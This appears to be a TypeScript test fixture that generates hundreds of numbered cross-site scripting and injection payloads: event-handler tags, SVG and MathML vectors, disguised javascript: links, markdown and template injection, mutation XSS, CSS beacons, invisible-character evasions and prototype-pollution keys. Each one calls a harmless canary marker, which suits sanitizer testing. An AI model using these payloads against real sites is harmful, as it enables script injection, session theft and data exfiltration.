/*
 * Texts that would run as script, call out, or bend the program if any place took them for more than text. Each names itself: what runs calls
 * `canari(<number>)` or asks `https://canari.invalid/<number>` for something, so that it is known which one came through. They are made from
 * families, as people who attack make them: a way to run × a way to hide it.
 */

export interface Vector {
  id: number
  family: string
  text: string
}

/** Longer than that no name or title may be, so that every vector fits in every field. */
const LENGTH_MAX = 118

type Make = (call: string, beacon: string) => string

const product = <A, B>(a: readonly A[], b: readonly B[]): [A, B][] => a.flatMap((one) => b.map((other): [A, B] => [one, other]))

/** What runs by itself as soon as it is an element. */
const tags: Make[] = [
  (call) => `<script>${call}</script>`,
  (_, beacon) => `<script src=${beacon}></script>`,
  (call) => `<img src=x onerror=${call}>`,
  (_, beacon) => `<img src=${beacon}>`,
  (call) => `<image src=x onerror=${call}>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<audio src=x onerror=${call}>`,
  (call) => `<input type=image src=x onerror=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<select autofocus onfocus=${call}>`,
  (call) => `<textarea autofocus onfocus=${call}></textarea>`,
  (call) => `<details open ontoggle=${call}>x`,
  (call) => `<body onload=${call}>`,
  (call) => `<iframe onload=${call}></iframe>`,
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe srcdoc="&lt;img src=x onerror=parent.${call}&gt;"></iframe>`,
  (_, beacon) => `<object data=${beacon}></object>`,
  (call) => `<object data=x onerror=${call}></object>`,
  (_, beacon) => `<embed src=${beacon}>`,
  (call) => `<link rel=stylesheet href=x onerror=${call}>`,
  (_, beacon) => `<link rel=stylesheet href=${beacon}>`,
  (_, beacon) => `<link rel=prefetch href=${beacon}>`,
  (_, beacon) => `<meta http-equiv=refresh content="0;url=${beacon}">`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (_, beacon) => `<base href=${beacon}/>`,
  (call) => `<marquee onstart=${call}>x</marquee>`,
  (call) => `<style onload=${call}></style>`,
  (call) => `<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=${call}>`,
  (_, beacon) => `<form action=${beacon} id=f><input name=a></form><img src=x onerror=f.submit()>`,
  (call) => `<dialog open onclose=${call}>x</dialog>`,
  (call) => `<x-y onfocus=${call} autofocus tabindex=1>`,
]

const handlers = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'onclick',
  'onpointerenter',
  'onanimationend',
  'ontoggle',
] as const
const elements = ['img src=x', 'svg', 'a href=x', 'p tabindex=0 autofocus', 'b', 'video src=x'] as const
const quotes: ((handler: string, call: string) => string)[] = [
  (handler, call) => ` ${handler}="${call}"`,
  (handler, call) => `/${handler}='${call}'`,
  (handler, call) => `\t${handler.toUpperCase()}\n=\n${call}`,
]
/** Event attributes, in the ways that they are written. */
const events: Make[] = product(product(handlers, elements), quotes).map(
  ([[handler, element], quote]) =>
    (call) =>
      `<${element}${quote(handler, call)}>`,
)

const drawings: Make[] = [
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><script href="data:,${call}"/></svg>`,
  (call) => `<svg><script xlink:href="data:,${call}"></script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><set onbegin=${call} attributeName=x to=y>`,
  (call) => `<svg><a><animate attributeName=href values=javascript:${call} /><text y=20>x</text></a>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`,
  (_, beacon) => `<svg><image href=${beacon} /></svg>`,
  (_, beacon) => `<svg><use href="${beacon}#a"/></svg>`,
  (call) => `<svg><use href="data:image/svg+xml,<svg id=a onload=${call}>#a"/></svg>`,
  (call) => `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
  (call) => `<svg><desc><img src=x onerror=${call}></desc></svg>`,
  (call) => `<svg><title><img src=x onerror=${call}></title></svg>`,
  (_, beacon) => `<svg><style>@import "${beacon}"</style></svg>`,
  (_, beacon) => `<svg><filter><feImage href=${beacon} /></filter></svg>`,
  (call) => `<svg><discard onbegin=${call}>`,
  (call) => `<math href="javascript:${call}">x</math>`,
  (call) => `<math><mtext href="javascript:${call}">x</mtext></math>`,
  (call) => `<math><maction actiontype=statusline xlink:href="javascript:${call}">x</maction></math>`,
  (call) => `<math><annotation-xml encoding=text/html><img src=x onerror=${call}>`,
]

/** Addresses that run, and the disguises of their first letters. */
const addresses: Make[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `java\nscript:${call}`,
  (call) => `\u0001javascript:${call}`,
  (call) => ` javascript:${call}`,
  (call) => `&#106;avascript:${call}`,
  (call) => `&#x6A;avascript&#58;${call}`,
  (call) => `javascript&colon;${call}`,
  (call) => `java&Tab;script:${call}`,
  (call) => `java&NewLine;script:${call}`,
  (call) => `javascript://%0a${call}`,
  (call) => `javascript%3A${call}`,
  (call) => `java\u200bscript:${call}`,
  (call) => `\uff4aavascript:${call}`,
  (call) => `javascript:/*--></title>*/${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `data:text/html;base64,${btoa(`<script>opener.${call}</script>`)}`,
  (call) => `data:image/svg+xml,<svg onload=${call}>`,
  (call) => `vbscript:${call}`,
  (call) => `view-source:javascript:${call}`,
  (call) => `feed:javascript:${call}`,
  (call) => `blob:null/${call}`,
  (call) => `file:///${call}`,
  (call) => `https:javascript:${call}`,
  (call) => `mailto:a@b.example?body=<script>${call}</script>`,
]
const carriers: ((address: string) => string)[] = [
  (address) => `[ici](${address})`,
  (address) => `[ici](<${address}>)`,
  (address) => `![ici](${address})`,
  (address) => `<${address}>`,
  (address) => `<a href="${address}">ici</a>`,
  (address) => address,
]
const links: Make[] = product(addresses, carriers).map(
  ([address, carry]) =>
    (call, beacon) =>
      carry(address(call, beacon)),
)

const markdown: Make[] = [
  (call) => `[ici](https://x.example "\\" onmouseover=${call} x=\\"")`,
  (call) => `[ici](https://x.example/"onmouseover="${call})`,
  (call) => `[a](b "c" onerror=${call})`,
  (call) => `[ici]: javascript:${call}\n\n[ici]`,
  (call) => `![x](x"onerror="${call})`,
  (call) => `![<img src=x onerror=${call}>](https://x.example)`,
  (call) => `[<img src=x onerror=${call}>](https://x.example)`,
  (call) => `**<img src=x onerror=${call}>**`,
  (call) => `_<svg/onload=${call}>_ et *a<b onclick=${call}>*`,
  (call) => `- <img src=x onerror=${call}>\n- <svg onload=${call}>`,
  (call) => `1. [x](javascript:${call})\n2. y`,
  (call) => `\`<img src=x onerror=${call}>\``,
  (call) => `\`\`\`html\n<script>${call}</script>\n\`\`\``,
  (call) => `    <script>${call}</script>`,
  (call) => `> <img src=x onerror=${call}>`,
  (call) => `# <img src=x onerror=${call}>`,
  (call) => `<div markdown=1>**<img src=x onerror=${call}>**</div>`,
  (call) => `<https://x.example/?<script>${call}</script>>`,
  (call) => `https://x.example/"><svg/onload=${call}>`,
  (call) => `https://x.example/'onmouseover='${call}`,
  (call) => `a@b.example"onclick="${call}`,
  (call) => `[x](https://a:b@x.example\\@javascript:${call})`,
  (call) => `[[x](javascript:${call})](https://x.example)`,
  (call) => `\\[x](javascript:${call})\\<img src=x onerror=${call}\\>`,
  (call) => `a\\\n<img src=x onerror=${call}>  \nb`,
]

/** Out of where it was put: an attribute, a string, a comment, a tag whose inside is text. */
const openings = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '-->',
  '--!>',
  ']]>',
  '*/',
  '?>',
  '%>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '</template>',
  '</iframe>',
  '</xmp>',
  '</option></select>',
  '</button>',
  '</svg>',
  '\\"',
  "\\'",
  '\u2028',
] as const
const inside: ((opening: string, call: string) => string)[] = [
  (opening, call) => `${opening}<img src=x onerror=${call}>`,
  (opening, call) => `${opening} autofocus onfocus=${call} x=${opening[0]}`,
  (opening, call) => `${opening};${call}//`,
]
const breakouts: Make[] = product(openings, inside).map(
  ([opening, put]) =>
    (call) =>
      put(opening, call),
)

/** Of template languages, of frameworks in the page, and of the one that draws here. */
const templates: Make[] = [
  (call) => `\${${call}}`,
  (call) => `{{${call}}}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `{{{${call}}}}`,
  (call) => `[[${call}]]`,
  (call) => `#{${call}}`,
  (call) => `<%= ${call} %>`,
  (call) => `<%- ${call} %>`,
  (call) => `{%raw%}<img src=x onerror=${call}>{%endraw%}`,
  (call) => `{!${call}!}`,
  (call) => `@{${call}}`,
  (call) => `<?php ${call} ?>`,
  (call) => `<?lit$123$?>\${${call}}`,
  (call) => `<!--lit$123$--><img src=x onerror=${call}>`,
  (call) => `<!--?lit$123$--><img src=x onerror=${call}>`,
  (call) => `lit$123$ @click=\${${call}} .innerHTML=<img/src/onerror=${call}>`,
  (call) => `<p x-data x-init="${call}">`,
  (call) => `<p v-html="'<img src=x onerror=${call}>'">`,
  (call) => `<p ng-app ng-init="${call}">`,
  (call) => `<p hx-on:load="${call}" data-hx-trigger=load>`,
  (call) => `{count} {name} {__proto__} \${${call}}`,
  (call) => `{"toString":"<img src=x onerror=${call}>"}`,
  (call) => `%s %d %j %o \${${call}}`,
  (call) => `$& $1 $\` $' <img src=x onerror=${call}>`,
]

const encode = (text: string, one: (code: number) => string) => [...text].map((sign) => one(sign.codePointAt(0)!)).join('')
const entities: Make[] = [
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `&amp;lt;img src=x onerror=${call}&amp;gt;`,
  (call) => `&#60;img src=x onerror=${call}&#62;`,
  (call) => `&#x3C;img src=x onerror=${call}&#x3E;`,
  (call) => `&#0000060img src=x onerror=${call}&#62`,
  (call) => `&ltimg src=x onerror=${call}&gt`,
  (call) => `%3Cimg src=x onerror=${call}%3E`,
  (call) => `%253Cscript%253E${call}%253C/script%253E`,
  (call) => `\\u003cimg src=x onerror=${call}\\u003e`,
  (call) => `\\x3cscript\\x3e${call}\\x3c/script\\x3e`,
  (call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  (call) => `<img src=x onerror=&#${call.charCodeAt(0)};${call.slice(1)}>`,
  (call) => `<img src=x onerror=${encode(call, (code) => `&#${code};`)}>`.slice(0, LENGTH_MAX),
  (call) =>
    `<img src=x onerror="${encode(call.slice(0, 6), (code) => `\\u${code.toString(16).padStart(4, '0')}`)}${call.slice(6)}">`,
  (call) => `<img src=x onerror=eval(atob('${btoa(call)}'))>`,
  (call) => `<img src=x onerror=self[atob('${btoa('canari')}')]${call.slice(6)}>`,
]

/** Signs that cannot be seen, that turn the direction, or that look like others. */
const disguises: ((markup: string) => string)[] = [
  (markup) => markup.replace('<', '<\u200b'),
  (markup) => markup.replace('img', 'im\u200dg'),
  (markup) => `\u202e${markup}\u202c`,
  (markup) => `\u2066${markup}\u2069\u200f`,
  (markup) => `\ufeff${markup}`,
  (markup) => markup.replace('<', '\uff1c').replace('>', '\uff1e'),
  (markup) => markup.replace('<', '\u2039').replace('>', '\u203a'),
  (markup) => markup.replace('i', '\u0456'),
  (markup) => markup.replace('<', '<\u0000'),
  (markup) => markup.replace(' ', '\u00a0'),
  (markup) => markup.replace(' ', '\u000c'),
  (markup) => markup.replace(' ', '/\u000b/'),
  (markup) => `\ud800${markup}`,
  (markup) => `e\u0301\u0301\u0301${markup}\u{1f469}\u200d\u{1f469}`,
  (markup) => markup.replace('onerror', 'on\u0131error'),
]
const hidden: Make[] = product(disguises, [
  (call: string) => `<img src=x onerror=${call}>`,
  (call: string) => `<script>${call}</script>`,
]).map(
  ([disguise, make]) =>
    (call) =>
      disguise(make(call)),
)

/** What becomes markup only when it is read, written and read again. */
const mutations: Make[] = [
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
  (call) => `<math><mtext><table><mglyph><style><!--</style><img src=x onerror=${call}>`,
  (call) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
  (call) => `<math><annotation-xml><style><p title="</style><img src=x onerror=${call}>">`,
  (call) => `<svg><style><![CDATA[</style><img src=x onerror=${call}>]]></style>`,
  (call) => `<select><noembed></select><svg onload=${call}></noembed>`,
  (call) => `<template><style></template><img src=x onerror=${call}></style>`,
  (call) => `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
  (call) => `<listing>&lt;img src=x onerror=${call}&gt;</listing>`,
  (call) => `<noframes><p id="</noframes><img src=x onerror=${call}>">`,
  (call) => `<a title="\`\`onmouseover=${call}">x</a>`,
  (call) => `<img alt="\`\` onerror=${call} " src=x>`,
  (call) => `<table><td><form><table></form><svg onload=${call}>`,
  (call) => `<p><svg><p><style><g title="</style><img src=x onerror=${call}>">`,
  (call) => `<textarea></textarea\u0000><img src=x onerror=${call}></textarea>`,
  (call) => `<<img src=x onerror=${call}//<b>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<img src="x\`<script>${call}</script>"\`>`,
  (call) => `<!--<img src="--><img src=x onerror=${call}//">`,
]

const sheets: Make[] = [
  (_, beacon) => `<style>@import url(${beacon});</style>`,
  (_, beacon) => `<style>*{background:url(${beacon})}</style>`,
  (_, beacon) => `<b style="background:url(${beacon})">x</b>`,
  (_, beacon) => `<b style=list-style:url(${beacon})>x</b>`,
  (_, beacon) => `<b style="border-image:url('${beacon}')">x`,
  (_, beacon) => `<style>@font-face{font-family:x;src:url(${beacon})}*{font-family:x}</style>`,
  (call) => `<b style="width:expression(${call})">`,
  (call) => `<b style="behavior:url(javascript:${call})">`,
  (call) => `<b style="-moz-binding:url(data:,${call})">`,
  (_, beacon) => `red;background:url(${beacon})`,
  (_, beacon) => `red}*{background:url(${beacon})}`,
  (_, beacon) => `var(--x,url(${beacon}))`,
  (_, beacon) => `image-set('${beacon}' 1x)`,
  (_, beacon) => `\\75rl(${beacon})`,
]

/** Names that every object answers to. */
const keys: Make[] = [
  () => '__proto__',
  () => 'constructor',
  () => 'prototype',
  () => 'toString',
  () => 'valueOf',
  () => 'hasOwnProperty',
  () => '__defineGetter__',
  () => '__lookupSetter__',
  () => 'then',
  () => 'toJSON',
  () => 'length',
  () => 'undefined',
  () => 'null',
  () => 'NaN',
  () => '[object Object]',
  () => 'Symbol(iterator)',
  () => '__proto__[polluted]=1',
  () => 'constructor[prototype][polluted]=1',
  () => '{"__proto__":{"polluted":1}}',
  () => '{"constructor":{"prototype":{"polluted":1}}}',
  (call) => `__proto__.toString=${call}`,
]

const polyglots: Make[] = [
  (call) => `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${call}//'>`,
  (call) => `'"></title><svg/onload=${call}>{{${call}}}\${${call}}[x](javascript:${call})`,
  (call) => `"'--></style></script><script>${call}</script>\`-${call}-\`<img src=x onerror=${call}>`,
  (call) => `]]>*/--></noscript>"><img src=x onerror=${call}><!--\u202e[x](javascript:${call})`,
  (call) => `\\');${call}//<svg onload=${call}>'"\`><details open ontoggle=${call}>`,
]

const families: Record<string, Make[]> = {
  tags,
  events,
  drawings,
  links,
  markdown,
  breakouts,
  templates,
  entities,
  hidden,
  mutations,
  sheets,
  keys,
  polyglots,
}

/** All of them, each once, numbered from 0. */
export const vectors: readonly Vector[] = Object.entries(families)
  .flatMap(([family, makes]) => makes.map((make) => ({ family, make })))
  .map(({ family, make }, id) => ({ id, family, text: make(`canari(${id})`, `https://canari.invalid/${id}`) }))
  .map((vector) => {
    if ([...vector.text].length > LENGTH_MAX) throw new Error(`Too long for a name: ${vector.text}`)
    return vector
  })
